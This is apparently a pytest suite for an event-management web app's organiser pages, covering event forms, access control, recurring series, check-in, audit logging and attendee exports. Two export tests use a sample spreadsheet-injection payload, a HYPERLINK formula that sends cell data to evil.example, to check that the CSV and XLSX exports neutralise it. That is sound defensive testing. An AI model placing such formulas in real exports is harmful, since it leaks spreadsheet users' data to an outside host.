"""The organisers' side: create and edit events, attendee list, CSV export, check-in from a phone."""

import csv
import datetime
import io
import itertools

import pytest
import time_machine

from talentas.events import services
from talentas.events.models import Event, EventSeries, Registration

from .factories import EventFactory, FeedbackFactory, RegistrationFactory, in_days


def _form(event_action, organisers, **changes):
    data = {
        "action": event_action.pk,
        "organisers": [organisation.pk for organisation in organisers],
        "event_type": "financing_workshop",
        "title_lt": "Kaip finansuoti startuolį",
        "title_en": "How to finance your startup",
        "description_lt": "Dotacijos, verslo angelai ir bankai.",
        "description_en": "Grants, angels and banks.",
        "starts_at": in_days(20).strftime("%Y-%m-%dT%H:%M"),
        "ends_at": (in_days(20) + datetime.timedelta(hours=3)).strftime("%Y-%m-%dT%H:%M"),
        "language": "lt",
        "audience_lt": "Įmonių įkūrėjai",
        "audience_en": "Founders",
        "accessibility_notes_lt": "Įėjimas be laiptų.",
        "accessibility_notes_en": "Step-free entrance.",
        "venue_name_lt": "Alytaus verslo inovacijų centras",
        "venue_name_en": "Alytus Business Innovation Center",
        "address": "Naujoji g. 1, Alytus",
        "online_url": "",
        "capacity": "30",
        "registration_mode": "open",
        "registration_opens_at": "",
        "registration_closes_at": "",
        "questions": "Your company?\nDietary needs?",
    }
    data.update(changes)
    return data


def test_a_member_creates_an_event_for_their_organisation(client, member, organiser_org, event):
    client.force_login(member)
    response = client.post("/en/events/new/", _form(event.action, [organiser_org]))
    assert response.status_code == 302
    created = Event.objects.get(title_en="How to finance your startup")
    assert list(created.organisers.all()) == [organiser_org]
    assert created.questions == ["Your company?", "Dietary needs?"]
    assert created.created_by == member


def test_validation_keeps_what_was_typed(client, member, organiser_org, event):
    client.force_login(member)
    data = _form(event.action, [organiser_org], ends_at=in_days(19).strftime("%Y-%m-%dT%H:%M"), address="")
    response = client.post("/en/events/new/", data)
    assert response.status_code == 400
    assert "The event must end after it starts." in response.text
    assert "Give an address, an online link, or both." in response.text
    assert "How to finance your startup" in response.text
    data = _form(event.action, [organiser_org], registration_opens_at=in_days(25).strftime("%Y-%m-%dT%H:%M"))
    response = client.post("/en/events/new/", data)
    assert response.status_code == 400
    assert "Registration must open before the event starts." in response.text


def test_members_cannot_organise_for_other_organisations(client, member, other_org_member, event):
    other = other_org_member.memberships.get().organisation
    client.force_login(member)
    response = client.post("/en/events/new/", _form(event.action, [other]))
    assert response.status_code == 400  # not among the choices offered
    assert not Event.objects.filter(title_en="How to finance your startup").exists()


def test_plan_managers_organise_for_anyone(client, plan_manager, organiser_org, event):
    client.force_login(plan_manager)
    assert client.post("/en/events/new/", _form(event.action, [organiser_org])).status_code == 302


def test_people_without_an_organisation_cannot_create(client, outsider):
    client.force_login(outsider)
    assert client.get("/en/events/new/").status_code == 403
    assert client.get("/en/events/organise/").status_code == 403


def test_anonymous_is_sent_to_log_in(client, event):
    for url in [
        "/en/events/new/",
        f"/en/events/{event.pk}/edit/",
        f"/en/events/{event.pk}/attendees/",
        f"/en/events/{event.pk}/attendees/?export=csv",
        f"/en/events/{event.pk}/check-in/",
    ]:
        response = client.get(url)
        assert response.status_code == 302 and "/login/" in response["Location"], url


@pytest.mark.parametrize("who", ["outsider", "other_org_member"])
def test_outsiders_cannot_see_organiser_pages(client, event, request, who):
    client.force_login(request.getfixturevalue(who))
    for url in [
        f"/en/events/{event.pk}/edit/",
        f"/en/events/{event.pk}/attendees/",
        f"/en/events/{event.pk}/attendees/?export=csv",
        f"/en/events/{event.pk}/check-in/",
    ]:
        assert client.get(url).status_code == 403, url
    assert client.post(f"/en/events/{event.pk}/cancel-event/").status_code == 403
    event.refresh_from_db()
    assert not event.is_cancelled


def test_edit_event_and_make_a_quarterly_series(client, owner, event, organiser_org):
    client.force_login(owner)
    assert client.get(f"/en/events/{event.pk}/edit/").status_code == 200
    response = client.post(
        f"/en/events/{event.pk}/edit/", _form(event.action, [organiser_org], title_en="Renamed evening", capacity="5")
    )
    assert response.status_code == 302
    event.refresh_from_db()
    assert (event.title_lt, event.title_en, event.capacity) == ("Kaip finansuoti startuolį", "Renamed evening", 5)
    response = client.post(f"/en/events/{event.pk}/repeat/", {"frequency": "quarterly", "occurrences": "3"})
    assert response.status_code == 302
    series = EventSeries.objects.get()
    assert (series.title_lt, series.title_en) == ("Kaip finansuoti startuolį", "Renamed evening")
    texts = set(series.events.values_list("title_lt", "title_en", "description_lt", "description_en"))
    assert texts == {
        (
            "Kaip finansuoti startuolį",
            "Renamed evening",
            "Dotacijos, verslo angelai ir bankai.",
            "Grants, angels and banks.",
        )
    }
    starts = list(series.events.order_by("starts_at").values_list("starts_at", flat=True))
    assert len(starts) == 4
    assert all(80 <= (b - a).days <= 93 for a, b in itertools.pairwise(starts))


def test_cancel_event(client, owner, event):
    client.force_login(owner)
    assert client.post(f"/en/events/{event.pk}/cancel-event/").status_code == 302
    event.refresh_from_db()
    assert event.is_cancelled


def test_attendee_list_and_its_query_count(client, owner, event, django_assert_num_queries):
    for _ in range(2):
        RegistrationFactory(event=event)
    client.force_login(owner)
    client.get(f"/en/events/{event.pk}/attendees/")  # warm the session
    with django_assert_num_queries(10):
        response = client.get(f"/en/events/{event.pk}/attendees/")
    assert response.status_code == 200
    for _ in range(6):
        RegistrationFactory(event=event, status="waitlisted")
    with django_assert_num_queries(10):
        client.get(f"/en/events/{event.pk}/attendees/")


def test_organiser_approves_from_the_attendee_list(client, owner, event, outsider):
    Event.objects.filter(pk=event.pk).update(registration_mode="approval")
    pending = services.register_for_event(user=outsider, event_id=event.pk).registration
    client.force_login(owner)
    assert "Approve" in client.get(f"/en/events/{event.pk}/attendees/").text
    client.post(f"/en/events/{event.pk}/attendees/{pending.pk}/decide/", {"decision": "approve"})
    pending.refresh_from_db()
    assert pending.status == "confirmed"


EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'


def test_csv_export_of_attendees_neutralises_formulas_in_answers_and_question_headers(client, owner, event):
    Event.objects.filter(pk=event.pk).update(questions=["Company?", EVIL])
    RegistrationFactory(
        event=event, user__full_name="=HYPERLINK(1)", answers={"Company?": "Nemuno inžinerija", EVIL: "-1+A1"}
    )
    client.force_login(owner)
    response = client.get(f"/en/events/{event.pk}/attendees/?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Name", "E-mail", "Status"]
    assert rows[0][-2:] == ["Company?", "'" + EVIL]
    assert rows[1][0] == "'=HYPERLINK(1)"
    assert rows[1][-2:] == ["Nemuno inžinerija", "'-1+A1"]


def test_check_in_page_ticks_names_with_htmx(client, owner, event, people):
    seats = [services.register_for_event(user=person, event_id=event.pk).registration for person in people[:2]]
    client.force_login(owner)
    with time_machine.travel(event.starts_at - datetime.timedelta(minutes=10)):
        page = client.get(f"/en/events/{event.pk}/check-in/")
        assert "0 of 2 checked in" in page.text
        response = client.post(f"/en/events/{event.pk}/check-in/{seats[0].pk}/", headers={"HX-Request": "true"})
        assert response.status_code == 200
        assert "Undo" in response.text
        assert "1 of 2 checked in" in response.text  # the counter swaps out of band
        found = client.get(f"/en/events/{event.pk}/check-in/", {"q": people[1].email}, headers={"HX-Request": "true"})
        assert people[1].email in found.text and people[0].email not in found.text
        response = client.post(f"/en/events/{event.pk}/check-in/{seats[0].pk}/", {"undo": "1"})
        assert response.status_code == 302
    assert Registration.objects.get(pk=seats[0].pk).status == "confirmed"


def test_check_in_of_a_registration_of_another_event_is_404(client, owner, event):
    elsewhere = RegistrationFactory(event=EventFactory())
    client.force_login(owner)
    assert client.post(f"/en/events/{event.pk}/check-in/{elsewhere.pk}/").status_code == 404


def test_organise_page_lists_own_events(client, owner, event):
    EventFactory(title="Someone else's event")
    client.force_login(owner)
    response = client.get("/en/events/organise/")
    assert "Quarterly networking evening" in response.text
    assert "Someone else" not in response.text
    assert "Quarterly" not in client.get("/en/events/organise/", {"title": "pitch"}).text


def test_cancelling_and_deciding_are_in_the_audit_log(event, owner, outsider):
    from talentas.audit.models import AuditEntry
    from talentas.events import services as event_services
    from talentas.events.models import Event

    Event.objects.filter(pk=event.pk).update(registration_mode=Event.RegistrationMode.APPROVAL)
    pending = event_services.register_for_event(user=outsider, event_id=event.pk).registration
    event_services.decide_registration(actor=owner, registration_id=pending.pk, approve=True)
    event_services.cancel_event(user=owner, event_id=event.pk)
    cancelled, approved = AuditEntry.objects.all()
    assert (approved.verb, approved.actor, approved.changes["status"]) == (
        "events.registration.approve",
        owner,
        ["pending", "confirmed"],
    )
    assert (cancelled.verb, cancelled.actor, cancelled.target_id) == ("events.event.cancel", owner, str(event.pk))


@pytest.mark.parametrize("count", [1, 25])
def test_organise_page_costs_the_same_queries_for_few_and_many_events(
    client, owner, organiser_org, count, django_assert_num_queries
):
    EventFactory.create_batch(count, organisers=[organiser_org])
    client.force_login(owner)
    client.get("/en/events/organise/")  # warm the session
    with django_assert_num_queries(7):
        assert client.get("/en/events/organise/", {"sort": "-starts_at"}).status_code == 200


def test_attendee_list_exports_xlsx_without_formulas(client, owner, event):
    from openpyxl import load_workbook

    Event.objects.filter(pk=event.pk).update(questions=[EVIL])
    registration = RegistrationFactory(event=event, answers={EVIL: EVIL})
    FeedbackFactory(registration=registration, rating=5, comment=EVIL)
    client.force_login(owner)
    response = client.get(f"/en/events/{event.pk}/attendees/", {"export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="attendees-')
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    header = [cell.value for cell in sheet[1]]
    assert header[-1] == "'" + EVIL and "Actions" not in header
    values = {name: cell.value for name, cell in zip(header, sheet[2], strict=True)}
    assert values["Comment"] == values["'" + EVIL] == "'" + EVIL
    assert (values["Rating"], sheet.cell(row=2, column=header.index("Rating") + 1).data_type) == (5, "n")


def test_attendee_list_sorts_by_a_header_link_that_says_its_order(client, owner, event):
    RegistrationFactory(event=event, user__full_name="Zita Zabielaitė")
    RegistrationFactory(event=event, user__full_name="Algis Adomaitis")
    client.force_login(owner)
    page = client.get(f"/en/events/{event.pk}/attendees/", {"sort": "-name"}).text
    assert page.index("Zita Zabielaitė") < page.index("Algis Adomaitis")
    assert 'aria-sort="descending"' in page and "?sort=name" in page
    assert "<caption>Registrations" in page and '<th scope="col"' in page
